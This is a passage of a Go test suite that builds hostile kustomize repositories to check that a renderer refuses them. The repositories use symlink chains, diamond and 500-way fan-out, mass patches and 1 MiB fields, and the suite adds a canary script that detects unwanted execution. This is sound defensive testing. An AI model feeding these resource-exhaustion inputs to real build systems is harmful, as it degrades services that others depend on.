			"kustomization.yaml": "resources: [objects.yaml]\ntransformers: [t1.yaml, t2.yaml, t3.yaml]\n",
			"objects.yaml":       configMaps(20, "cm"),
		},
		gen: func(e *hostileEnv) error {
			// 24 MiB in all, under the 32 MiB input ceiling.
			for _, f := range []string{"t1", "t2", "t3"} {
				if err := writeFile(filepath.Join(e.repo, f+".yaml"), labelTransformers(f+"-", 8<<20), 0o644); err != nil {
					return err
				}
			}
			return nil
		},
		want: refusal("kustomization.yaml", "transformers[0]", ceilingWord),
	})
	// A few kilobytes of FLApps in a base whose entry runs in place: their
	// Services would be trees in kustomize's resource map, and the overlay
	// above would add each after comparing it with every other.
	add(kcase{
		name: "services-in-place-from-a-base", family: "budget: Services in place", heavy: true,
		app: "overlay",
		files: map[string]string{
			"base/kustomization.yaml":    "resources: [flapps.yaml]\ntransformers: [flapp-services.yaml]\n",
			"base/flapp-services.yaml":   fnEntryYAML,
			"base/flapps.yaml":           strings.Replace(flappYAML, "Worker: {replicas: 2", "Worker: {replicas: 1100", 1) + "---\n" + strings.Replace(strings.Replace(flappYAML, "Worker: {replicas: 2", "Worker: {replicas: 1100", 1), "name: hostile", "name: hostile-b", 1),
			"overlay/kustomization.yaml": "resources: [../base]\nnamespace: x\n",
		},
		want: []string{"over the ceiling of 2000 for entries before the root's last transformer"},
	})
	add(kcase{
		name: "symlink-chain-250-fanned-out", family: "budget: fan-out", heavy: true,
		files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml, chain/d0]\n"}),
		gen: func(e *hostileEnv) error {
			const n = 250
			for i := range n {
				d := fmt.Sprintf("chain/d%d", i)
				if i == n-1 {
					if err := e.write(d+"/kustomization.yaml", "namePrefix: x-\n"); err != nil {
						return err
					}
					continue
				}
				if err := e.write(d+"/kustomization.yaml", "resources: [a, b]\n"); err != nil {
					return err
				}
				for _, l := range []string{"a", "b"} {
					if err := e.link(d+"/"+l, fmt.Sprintf("../d%d", i+1)); err != nil {
						return err
					}
				}
			}
			return nil
		},
		want: []string{"kustomization.yaml", ceilingWord},
	})
	add(kcase{
		name: "diamond-12-deep", family: "budget: fan-out", heavy: true,
		gen: func(e *hostileEnv) error {
			const depth = 12
			if err := e.write("kustomization.yaml", "resources: [lvl1/a, lvl1/b]\n"); err != nil {
				return err
			}
			if err := e.write("base/kustomization.yaml", "resources: [objects.yaml]\n"); err != nil {
				return err
			}
			if err := e.write("base/objects.yaml", configMaps(10, "cm")); err != nil {
				return err
			}
			for i := 1; i <= depth; i++ {
				next := fmt.Sprintf("[../../lvl%d/a, ../../lvl%d/b]", i+1, i+1)
				if i == depth {
					next = "[../../base]"
				}
				for _, side := range []string{"a", "b"} {
					if err := e.write(fmt.Sprintf("lvl%d/%s/kustomization.yaml", i, side),
						fmt.Sprintf("namePrefix: %s-\nresources: %s\n", side, next)); err != nil {
						return err
					}
				}
			}
			return nil
		},
		want: []string{"kustomization.yaml", ceilingWord},
	})
	add(kcase{
		name: "base-referenced-500-times", family: "budget: fan-out", heavy: true,
		gen: func(e *hostileEnv) error {
			var res []string
			for i := range 500 {
				d := fmt.Sprintf("o/%d", i)
				res = append(res, d)
				if err := e.write(d+"/kustomization.yaml", fmt.Sprintf("namePrefix: o%d-\nresources: [../../base]\n", i)); err != nil {
					return err
				}
			}
			if err := e.write("base/kustomization.yaml", "resources: [objects.yaml]\n"); err != nil {
				return err
			}
			if err := e.write("base/objects.yaml", configMaps(100, "cm")); err != nil {
				return err
			}
			return e.write("kustomization.yaml", "resources: ["+strings.Join(res, ", ")+"]\n")
		},
		want: []string{"kustomization.yaml", ceilingWord},
	})
	add(kcase{
		name: "patches-150-over-150", family: "budget: patches", heavy: true,
		gen: func(e *hostileEnv) error {
			var b strings.Builder
			b.WriteString("resources: [objects.yaml]\npatches:\n")
			for i := range 150 {
				fmt.Fprintf(&b, "- target: {kind: ConfigMap}\n  patch: |\n    apiVersion: v1\n    kind: ConfigMap\n    metadata: {name: any, annotations: {p%d: v}}\n", i)
			}
			if err := e.write("objects.yaml", configMaps(150, "cm")); err != nil {
				return err
			}
			return e.write("kustomization.yaml", b.String())
		},
		want: []string{"kustomization.yaml", ceilingWord},
	})
	mib := strings.Repeat("x", 1<<20)
	for _, v := range []struct {
		name, field string
		objects     int
	}{
		{"common-annotations-1mib-100", "commonAnnotations: {big: " + mib + "}\n", 100},
		{"common-annotations-1mib-1000", "commonAnnotations: {big: " + mib + "}\n", 1000},
		{"name-prefix-1mib-100", "namePrefix: " + mib + "-\n", 100},
		{"labels-1mib-1000", "labels:\n- pairs: {big: " + mib + "}\n", 1000},
	} {
		add(kcase{
			name: v.name, family: "budget: output", heavy: true,
			files: map[string]string{
				"kustomization.yaml": "resources: [objects.yaml]\n" + v.field,
				"objects.yaml":       configMaps(v.objects, "cm"),
			},
			want: []string{"kustomization.yaml", ceilingWord},
		})
	}

	cs = append(cs, redTeamCases()...)

	// --- Controls: what a repository legitimately holds renders.
	add(kcase{
		name: "control-examples-staging", family: "control", app: "examples/kustomize/staging",
		gen:    func(e *hostileEnv) error { return copyExamples(e, true) },
		stdout: []string{"kind: Service", "name: mnist-leader-worker-1", "namespace: fl-leader-staging"},
	})
	add(kcase{
		name: "control-examples-leader-image", family: "control", app: "examples/kustomize/leader",
		gen:    func(e *hostileEnv) error { return copyExamples(e, false) },
		stdout: []string{"kind: Service", "name: mnist-leader-worker-1", "namespace: fl-leader"},
	})
	add(kcase{
		name: "control-builtins", family: "control",
		files: map[string]string{
			"kustomization.yaml": `namespace: team-a
namePrefix: a-
labels:
- pairs: {team: a}
resources: [flapp.yaml, base]
configMapGenerator:
- name: settings
  literals: [mode=batch]
patches:
- path: patch.yaml
- target: {kind: ConfigMap, name: extra}
  patch: |
    - op: add
      path: /data/patched
      value: "yes"
transformers:
- |
  apiVersion: builtin
  kind: AnnotationsTransformer
  metadata: {name: notes}
  annotations: {owner: team-a}
  fieldSpecs: [{path: metadata/annotations, create: true}]
- flapp-services.yaml
`,
			"flapp.yaml":              flappYAML,
			"patch.yaml":              "apiVersion: fedlearner.k8s.io/v1alpha1\nkind: FLApp\nmetadata: {name: hostile}\nspec:\n  flReplicaSpecs:\n    Worker: {replicas: 3}\n",
			"base/kustomization.yaml": "resources: [extra.yaml]\n",
			"base/extra.yaml":         "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: extra}\ndata: {k: v}\n",
			"flapp-services.yaml":     fnEntryYAML,
		},
		stdout: []string{"kind: Service", "name: a-hostile-leader-worker-2", "namespace: team-a", "patched:"},
	})
	return cs
}

func indent(s, prefix string) string {
	lines := strings.SplitAfter(s, "\n")
	var b strings.Builder
	for _, l := range lines {
		if l != "" {
			b.WriteString(prefix + l)
		}
	}
	return b.String()
}

// copyExamples copies examples/kustomize into the repository; exec switches
// its function entries to the exec form the README gives for development
// (path ../../../bin/flapp-services, here a canary: the render reads the
// entry, it never runs it).
func copyExamples(e *hostileEnv, exec bool) error {
	src := filepath.Join(h.RepoRoot(), "examples", "kustomize")
	err := filepath.WalkDir(src, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(p, ".yaml") {
			return err
		}
		rel, err := filepath.Rel(h.RepoRoot(), p)
		if err != nil {
			return err
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		s := string(b)
		if exec && filepath.Base(p) == "flapp-services.yaml" {
			before := s
			s = strings.Replace(s, "container:", "exec:", 1)
			i := strings.Index(s, "image: ghcr.io/fedlearner/flapp-services:")
			if i < 0 || before == s {
				return fmt.Errorf("%s: no container entry to switch to exec", rel)
			}
			end := strings.IndexByte(s[i:], '\n')
			s = s[:i] + "path: ../../../bin/flapp-services" + s[i+end:]
		}
		return writeFile(filepath.Join(e.repo, rel), s, 0o644)
	})
	if err != nil {
		return err
	}
	return writeFile(filepath.Join(e.repo, "bin", "flapp-services"),
		"#!/bin/sh\n: > '"+filepath.Join(e.canary, "FIRED-repo-bin")+"'\nexit 1\n", 0o755)
}
